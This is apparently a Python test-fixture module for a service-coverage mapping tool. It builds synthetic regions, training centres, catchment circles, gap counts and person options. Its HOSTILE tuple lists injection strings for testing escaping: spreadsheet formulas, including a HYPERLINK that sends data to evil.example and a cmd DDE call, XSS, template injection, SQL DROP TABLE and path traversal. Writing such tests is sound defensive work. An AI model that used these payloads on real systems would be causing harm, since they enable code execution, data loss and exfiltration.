"""The map that each test of maps changes once: a strip of land with four regions, services, cells, clusters.

The land reaches from 16 to 14 W and from 13 to 14 N, cut by the 15th meridian and the parallel of 13.5 N into four
regions of one degree by half a degree: R1 (south-west), R2 (south-east), R3 (north-west), R4 (north-east).

Vocational training: R1 has 100 people, 10 of them not served; R2 50, of whom 25 are not served and 15 unknown
(hatched); R3 has no row; R4 is withheld.
"""

from __future__ import annotations

import datetime as dt
from dataclasses import replace
from typing import Any

import geopandas as gpd
import h3
import numpy as np
import pandas as pd
from shapely.geometry import box

from app.words import words_for
from layers.circles import circle_polygon
from layers.geoframes import with_points, with_polygons
from layers.recipe import Recipe, SourceUsed
from layers.schemas import Areas, Services, Settlements
from layers.schemas.columns import GAP_STATUSES, TYPES
from layers.schemas.results import (
    AccessScores,
    Catchments,
    CourseAlignments,
    DemandFigures,
    GapClusters,
    GapCounts,
    MismatchTotals,
    NearestByRoad,
    Options,
    ReleasedCounts,
    RoadCatchments,
)
from layers.words import say
from mapping.content import MapContent, PersonContent

ON = dt.date(2026, 11, 15)
FRENCH, ENGLISH = words_for("fr"), words_for("en")
CORNERS = {"R1": (-16, 13), "R2": (-15, 13), "R3": (-16, 13.5), "R4": (-15, 13.5)}
NAMES = {"R1": "Western Shore", "R2": "Lower Bend", "R3": "North Bank", "R4": "Upper Hills"}

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<img src=x onerror=\"document.title='executed'\">",
    "</script><script>document.title='executed'</script>",
    "${document.title='executed'}",
    "`+(document.title='executed')+`",
    "{{ cycler.__init__.__globals__.os.mkdir('executed') }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}executed{% endfor %}",
    "{# gone #}",
    "'; DROP TABLE services;--",
    "../../etc/passwd",
    "[x](javascript:document.title='executed') ![y](http://evil.example/y.png)",
    "%s%n{0.__class__.__mro__}",
)
"""The sixteen hostile strings of group D of the table of bad inputs."""


def areas(**changes: Any) -> gpd.GeoDataFrame:
    """Build the four regions; a change holds for all of them."""
    rows = [
        {
            "area_id": code,
            "area_name": NAMES[code],
            "area_name_fr": f"{NAMES[code]} (fr)",
            "admin_level": 1,
            "country": "GM",
            "geometry": box(west, south, west + 1, south + 0.5),
            **changes,
        }
        for code, (west, south) in CORNERS.items()
    ]
    return gpd.GeoDataFrame(Areas.parse(pd.DataFrame(rows)), geometry="geometry", crs=4326)


def service(**changes: Any) -> dict[str, Any]:
    """Write one service, vocational, in the middle of R1."""
    return {
        "service_id": "centre",
        "service_name": "Training centre",
        "service_type": "vocational",
        "organization_name": "Skills Trust",
        "site_name": "Shore Town",
        "latitude": 13.25,
        "longitude": -15.5,
        "seats_total": 20,
        "seats_available": 12,
        "seats_as_of": "2026-11-01",
        "source": "Ministry",
        "source_date": "2026-10-01",
        **changes,
    }


def services(*rows: dict[str, Any]) -> pd.DataFrame:
    """Build services from rows; the one centre if none are given."""
    return Services.parse(pd.DataFrame(list(rows or [service()])))


def many_services(count: int, *, seed: int = 1) -> pd.DataFrame:
    """Scatter services of three types over the land, the same ones for the same seed."""
    chance = np.random.default_rng(seed)
    frame = pd.DataFrame(
        {
            "service_id": [f"service-{number}" for number in range(count)],
            "service_name": [f"Centre number {number}" for number in range(count)],
            "service_type": [TYPES[number % 3] for number in range(count)],
            "organization_name": "Skills Trust",
            "latitude": chance.uniform(13.02, 13.98, count),
            "longitude": chance.uniform(-15.98, -14.02, count),
            "source": "Ministry",
            "source_date": "2026-10-01",
        }
    )
    return Services.parse(frame)


def catchments(frame: pd.DataFrame) -> gpd.GeoDataFrame:
    """Draw the circles of 5 km (urban) and 10 km (rural) around services."""
    rows = [
        {
            "service_id": row["service_id"],
            "service_name": row["service_name"],
            "service_type": row["service_type"],
            "settlement_class": settlement_class,
            "radius_km": radius,
            "geometry": circle_polygon(row["latitude"], row["longitude"], radius),
        }
        for row in frame.dropna(subset=["latitude", "longitude", "service_type"]).to_dict("records")
        for settlement_class, radius in (("urban", 5.0), ("rural", 10.0))
    ]
    parsed = Catchments.parse(pd.DataFrame(rows)) if rows else Catchments.empty()
    return gpd.GeoDataFrame(parsed, geometry="geometry", crs=4326)


def count(area_id: str | None, **figures: int) -> dict[str, Any]:
    """Write one row of counts: people is the sum of the figures given."""
    zeros = dict.fromkeys(GAP_STATUSES, 0)
    return {
        "area_id": area_id,
        "area_name": NAMES.get(area_id or "", area_id),
        "service_type": "vocational",
        "people": sum(figures.values()),
        **zeros,
        **figures,
    }


def counts(*rows: dict[str, Any]) -> pd.DataFrame:
    """Build counts; those of the module's first lines if none are given, R4 withheld."""
    if rows:
        return GapCounts.parse(pd.DataFrame(list(rows)))
    known = ReleasedCounts.parse(
        pd.DataFrame(
            [
                count("R1", served=90, too_far=7, full=3),
                count("R2", served=10, too_far=20, not_eligible=5, unknown=15),
                count("R4", served=20),
                count(None, unknown=8),
            ]
        )
    )
    figures = ["people", *GAP_STATUSES]
    known.loc[known["area_id"] == "R4", figures] = pd.NA
    return known


def cells(number: int = 12, *, resolution: int = 6) -> pd.DataFrame:
    """Count people in so many neighbouring cells around the middle of R1; the first has 40 people, 30 not served."""
    middle = h3.latlng_to_cell(13.25, -15.5, resolution)
    rings = 0
    found = [middle]
    while len(found) < number:
        rings += 1
        found = sorted(h3.grid_disk(middle, rings), key=lambda cell: (cell != middle, cell))
    rows = [count(cell, served=10 + place % 9, too_far=30 - place % 27) for place, cell in enumerate(found[:number])]
    return GapCounts.parse(pd.DataFrame(rows))


def clusters(*rows: dict[str, Any]) -> pd.DataFrame:
    """Build clusters; one of 84 people near Bendtown and one of 12 without a town if none are given."""
    usual = (
        {"settlement_name": "Bendtown", "latitude": 13.21, "longitude": -14.6, "people": 84, "cause": "too_far"},
        {"settlement_name": None, "latitude": 13.8, "longitude": -15.6, "people": 12, "cause": "not_eligible"},
    )
    numbered = [
        {"cluster_id": place + 1, "service_type": "vocational", "radius_km": 3.5, **row}
        for place, row in enumerate(rows or usual)
    ]
    return GapClusters.parse(pd.DataFrame(numbered))


def settlements(*rows: dict[str, Any]) -> pd.DataFrame:
    """Build settlements; five towns if none are given."""
    places = [
        ("Shore Town", 13.24, -15.52, 40_000),
        ("Bendtown", 13.2, -14.62, 9_000),
        ("Northport", 13.7, -15.7, 7_000),
        ("Hillside", 13.75, -14.4, 3_000),
        ("Milestone", 13.45, -15.1, 800),
    ]
    usual = [
        {"settlement_name": name, "latitude": latitude, "longitude": longitude, "population": population}
        for name, latitude, longitude, population in places
    ]
    numbered = [{"settlement_id": f"S{place}", **row} for place, row in enumerate(rows or usual)]
    return Settlements.parse(pd.DataFrame(numbered))


def recipe(**changes: Any) -> Recipe:
    """Write the recipe of an answer from two sources, made at noon of the day asked about."""
    sources = (
        SourceUsed("services", "Ministry of Labour", dt.date(2026, 10, 1), "ab" * 32, 40),
        SourceUsed("areas", "Natural Earth", dt.date(2022, 5, 1), "cd" * 32, 4),
    )
    made_at = dt.datetime(2026, 11, 15, 12, tzinfo=dt.UTC)
    usual = Recipe("map", ON, parameters={"type": "vocational"}, sources=sources, version="0.1.0", made_at=made_at)
    return replace(usual, **changes)


def content(**changes: Any) -> MapContent:
    """Build the content of the map, released, with forty services of three types."""
    offered = changes.pop("services", None)
    offered = many_services(40) if offered is None else offered
    usual = {
        "sentence": say("Of {people} people, {unserved} can enter no vocational programme.", people=158, unserved=35),
        "services": offered,
        "catchments": catchments(offered) if len(offered) <= 500 else catchments(offered.head(0)),
        "areas": areas(),
        "counts": counts(),
        "cells": cells(),
        "clusters": clusters(),
        "settlements": settlements(),
        "recipe": recipe(),
        "service_type": "vocational",
        "people": 158,
        "unknown": 23,
        "released": True,
    }
    return MapContent(**{**usual, **changes})


def option(**changes: Any) -> dict[str, Any]:
    """Write one option of a person: a programme at the centre, 4.2 km away, eligible, ranked first."""
    return {
        "programme_id": "masonry",
        "programme_name": "Masonry, six months",
        "service_id": "centre",
        "service_name": "Training centre",
        "service_type": "vocational",
        "site_name": "Shore Town",
        "latitude": 13.25,
        "longitude": -15.5,
        "distance_km": 4.2,
        "radius_km": 5.0,
        "radius_class": "urban",
        "verdict": "eligible",
        "availability": "open",
        "rank": 1,
        "criteria": [],
        **changes,
    }


def person(*options: dict[str, Any], **changes: Any) -> PersonContent:
    """Build a person's content: a home 4 km from the centre, and three options, one of each verdict."""
    usual_options = options or (
        option(),
        option(service_id="clinic", service_type="medical", site_name="Clinic", latitude=13.3, longitude=-15.45)
        | {"programme_name": None, "verdict": "unknown", "rank": 2, "distance_km": 9.4, "radius_km": None},
        option(service_id="far", site_name="Northport", latitude=13.42, longitude=-15.6, programme_name="Solar")
        | {"verdict": "ineligible", "rank": None, "distance_km": 22.0},
    )
    frame = pd.DataFrame(list(usual_options))
    usual = {
        "facts": (),
        "place": (13.23, -15.53),
        "options": Options.parse(frame),
        "programmes": pd.DataFrame(),
        "services": services(),
        "areas": areas(),
        "settlements": settlements(),
        "recipe": recipe(),
        "case_code": "P-1",
    }
    return PersonContent(**{**usual, **changes})


def road_catchments() -> gpd.GeoDataFrame:
    row = {"service_type": "medical", "limit_km": 5.0, "profile": "moto", "season": "dry", "sites": 2}
    return with_polygons(RoadCatchments.parse(pd.DataFrame([{**row, "geometry": areas()["geometry"].iloc[0]}])))


CELLS = ("8754e64c9ffffff", "8754e64caffffff", "8754e64cbffffff")


def nearest(*places: str) -> pd.DataFrame:
    """Tell of one place each what can be told of a way: near, far, off the roads, withheld."""
    status = ["reached", "reached", "off_network", None][: len(places)]
    minutes = [12.5, 90.0, None, None][: len(places)]
    frame = pd.DataFrame({"place_id": places, "reach_status": status, "travel_minutes": minutes, "road_km": minutes})
    return NearestByRoad.parse(
        frame.assign(
            place_name="Place", latitude=13.4, longitude=-16.6, service_type="medical", profile="moto", season="dry"
        )
    )


def seats() -> gpd.GeoDataFrame:
    shapes = areas()
    frame = pd.DataFrame({"place_id": shapes["area_id"], "place_name": shapes["area_name"]})
    scores = frame.assign(score=0.02, people=50, service_type="medical", method="e2sfca", profile="moto", season="dry")
    scores.loc[scores.index[0], ["score", "people"]] = None
    return with_polygons(AccessScores.parse(scores).assign(geometry=shapes["geometry"].to_numpy(dtype=object)))


def labour_layers() -> dict[str, gpd.GeoDataFrame]:
    """Build the layers about the labour market: one occupation, one list, one course at a place without a known fit."""
    shapes = areas()
    where = {"area_id": shapes["area_id"], "area_name": shapes["area_name"]}
    asked = DemandFigures.parse(pd.DataFrame({**where, "isco08_code": "7212", "figure_status": "known"}))
    listed = MismatchTotals.parse(pd.DataFrame({**where, "mismatch_list": "needed_not_taught", "occupations": 2}))
    shaped = {"geometry": shapes["geometry"].to_numpy(dtype=object)}
    course = {"programme_id": "P1", "service_id": "S1", "latitude": 13.4, "longitude": -16.6}
    fits = CourseAlignments.parse(pd.DataFrame([{**course, "alignment_status": "no_data"}]))
    return {
        "demand": with_polygons(asked.assign(**shaped, legend_class="posts-2-weak")),
        "mismatch": with_polygons(listed.assign(**shaped, legend_class="many-1")),
        "alignment": with_points(fits.assign(legend_class="course-unknown")),
    }
